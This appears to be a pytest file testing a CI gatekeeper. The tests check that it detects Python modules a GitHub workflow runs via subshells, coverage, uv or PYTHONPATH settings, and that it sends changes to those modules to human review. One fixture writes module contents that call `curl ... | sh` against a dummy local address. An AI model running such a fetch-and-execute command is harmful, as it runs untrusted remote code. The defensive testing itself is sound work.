"""Misses 11 (issue 12, `ci` recall): spellings of `python -m` and of a Python script run that the walk missed.

Review 70 and 70b left them: a subshell's `(PYTHONPATH=tools python -m lib.notes)` (the `)` stayed glued to the
module's name), `coverage run -m lib.notes` and `uv run -m lib.notes` (the wrapper handed the module's name on as a
command), `coverage run tools/gen` (coverage's script was no command), and a PYTHONPATH the definition sets off the
line: a step's, a job's or the workflow's `env: PYTHONPATH: tools`, `export PYTHONPATH=tools` on an earlier line, a
`PYTHONPATH=tools` line written to `$GITHUB_ENV`. On ed28b952 each left the module `src` (counts in the tests).
Look-alikes: a module the tree lacks, `coverage report -m`, a PYTHONPATH of a variable only.
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from citools import tree_runs, yaml_quoted
from cpucost import assert_linear, repeated

from gatekeeper.classify import commandlines, wrappers

_HEAD = "on: push\n{wide}jobs:\n  t:\n    runs-on: ubuntu-latest\n{job}    steps:\n      - uses: actions/checkout@v4\n"


def _workflow(lines: list[str], step: str = "", job: str = "", wide: str = "") -> str:
    steps = "".join(f"      - run: {yaml_quoted(line)}\n" for line in lines[:-1])
    return _HEAD.format(wide=wide, job=job) + steps + f"      - run: {yaml_quoted(lines[-1])}\n{step}"


LINES = [  # a PYTHONPATH set on the line ({p}), the module lib.notes
    "(PYTHONPATH={p} python -m lib.notes)", "(cd . && PYTHONPATH={p} python3 -m lib.notes)",
    "( PYTHONPATH={p} python -m lib.notes )", "V=$(PYTHONPATH={p} python -m lib.notes)",
    "PYTHONPATH={p} coverage run -m lib.notes", "env PYTHONPATH={p} coverage run --branch -m lib.notes",
    "PYTHONPATH={p} coverage run --source=. --rcfile ci/cov -m lib.notes",
    "PYTHONPATH={p} python -m coverage run -m lib.notes",
    "PYTHONPATH={p} uv run -m lib.notes", "PYTHONPATH={p} uv run --module lib.notes",
    "PYTHONPATH={p} uv run --with x -m lib.notes --flag",
]
SET_ELSEWHERE = [  # (the lines, a step's env, a job's env, the workflow's env) setting {p}
    (["python -m lib.notes"], "        env:\n          PYTHONPATH: {p}\n", "", ""),
    (["python3 -m lib.notes"], "        env:\n          PYTHONPATH: '{p}'\n", "", ""),
    (["python -m lib.notes"], "", "    env:\n      PYTHONPATH: {p}\n", ""),
    (["python -m lib.notes"], "", "", "env:\n  PYTHONPATH: \"{p}:${{{{ github.workspace }}}}\"\n"),
    (["coverage run -m lib.notes"], "        env:\n          PYTHONPATH: {p}\n", "", ""),
    (["echo 'PYTHONPATH={p}' >> $GITHUB_ENV", "python -m lib.notes"], "", "", ""),
    (["export PYTHONPATH={p}; python -m lib.notes"], "", "", ""),
]
PATHS = [("tools", "tools/lib/notes.py"), ("py/src", "py/src/lib/notes/__main__.py")]


def _tree(workflow: str, module: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": workflow, module: "print('x')\n", "README.md": "x\n"}


@pytest.mark.parametrize("line, module", [(line.format(p=p), module) for line in LINES for p, module in PATHS])
def test_a_module_run_behind_a_subshell_coverage_or_uv_is_ci(line: str, module: str) -> None:
    assert module in tree_runs(_tree(_workflow([line]), module)), line  # before: 20 of 22 missed


@pytest.mark.parametrize("number, p, module", [(n, p, m) for n in range(len(SET_ELSEWHERE)) for p, m in PATHS])
def test_a_pythonpath_the_definition_sets_off_the_line_is_read(number: int, p: str, module: str) -> None:
    lines, step, job, wide = SET_ELSEWHERE[number]
    workflow = _workflow([line.format(p=p) for line in lines], step.format(p=p), job.format(p=p), wide.format(p=p))
    assert module in tree_runs(_tree(workflow, module)), workflow  # before: 12 of 14 missed (not the line's export)


@pytest.mark.parametrize("line, path", [("coverage run -m tools.gen", "tools/gen.py"),
                                        ("coverage run --branch tools/gen", "tools/gen"),
                                        ("coverage run -p --source=src tools/gen.py", "tools/gen.py"),
                                        ("sudo coverage run tools/gen --x", "tools/gen"),
                                        ("uv run -m tools.gen", "tools/gen.py")])
def test_the_program_coverage_or_uv_runs_is_ci(line: str, path: str) -> None:
    files = {".github/workflows/ci.yml": _workflow([line]), path: "print('x')\n", "tools/__init__.py": ""}
    assert path in tree_runs(files), line  # before: 4 of 5 missed


@pytest.mark.parametrize("line, step", [("PYTHONPATH=tools coverage run -m lib.other", ""),
                                        ("coverage report -m", "        env:\n          PYTHONPATH: tools\n"),
                                        ("python -m lib.notes", "        env:\n          PYTHONPATH: $TOOLS\n"),
                                        ("(PYTHONPATH=$T python -m lib.notes)", ""),
                                        ("PYTHONPATH=tools uv run -m lib.other", ""),
                                        ("python -m lib.notes", "        env:\n          OTHERPATH: tools\n")])
def test_a_look_alike_names_no_module(line: str, step: str) -> None:
    assert "tools/lib/notes.py" not in tree_runs(_tree(_workflow([line], step), "tools/lib/notes.py")), line


@pytest.mark.parametrize("line, command", [("coverage run --branch -m lib.notes -x", "python -m lib.notes -x"),
                                           ("coverage run tools/gen a", "python tools/gen a"),
                                           ("uv run --module lib.notes", "python -m lib.notes"),
                                           ("uv run -m lib.notes", "python -m lib.notes")])
def test_the_wrapper_hands_on_a_python_command(line: str, command: str) -> None:
    assert command in wrappers.commands(line)


def test_gate_tree_asks_for_a_human_for_each_class(tmp_path_factory: pytest.TempPathFactory) -> None:
    cases = [(["(PYTHONPATH=tools python -m lib.n{n})"], ""), (["PYTHONPATH=tools coverage run -m lib.n{n}"], ""),
             (["PYTHONPATH=tools uv run -m lib.n{n}"], ""),
             (["python -m lib.n{n}"], "        env:\n          PYTHONPATH: tools\n")]
    base = {f".github/workflows/w{n}.yml": _workflow([line.format(n=n) for line in lines], step)
            for n, (lines, step) in enumerate(cases)}
    base |= {f"tools/lib/n{n}.py": "print('x')\n" for n in range(len(cases))}
    head = {f"tools/lib/n{n}.py": "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"
            for n in range(len(cases))}
    code, named = gated_rules(committed(tmp_path_factory.mktemp("pyruns"), base, head), True)
    assert code == 3
    assert set(head) <= set(named.get("core.ci", [])), named  # before: exit 0, none of the 4 ci


_EIGHT_KEYS = "".join(f"PYTHONPATH: {':'.join(f'p{n}/q{m}' for m in range(16))}\n" for n in range(8))


@pytest.mark.parametrize("hostile", [repeated("- run: python -m a.b.c\n", head=_EIGHT_KEYS),
                                     lambda size: _EIGHT_KEYS + "".join(
                                         f"python -m m{n}.x\n" for n in range(size // 16)),
                                     repeated("PYTHONPATH: a:b:c:d:e\n", tail="python -m x\n"),
                                     repeated("(PYTHONPATH=tools python -m lib.notes)"),
                                     repeated("coverage run -m x ", head="PYTHONPATH=t "),
                                     repeated("python -m coverage run -m ")])
def test_the_readers_are_linear(hostile: object) -> None:
    # measured: at most 0.13 CPU-s at 64 KiB (load 10.8; before the bounds: 3.1 and 1.8, the first two and the last)
    assert_linear(_read_all, hostile, budget=0.5)  # type: ignore[arg-type]


def _read_all(text: str) -> object:
    return commandlines.env_modules(text), commandlines.scripts(text), wrappers.commands(text)
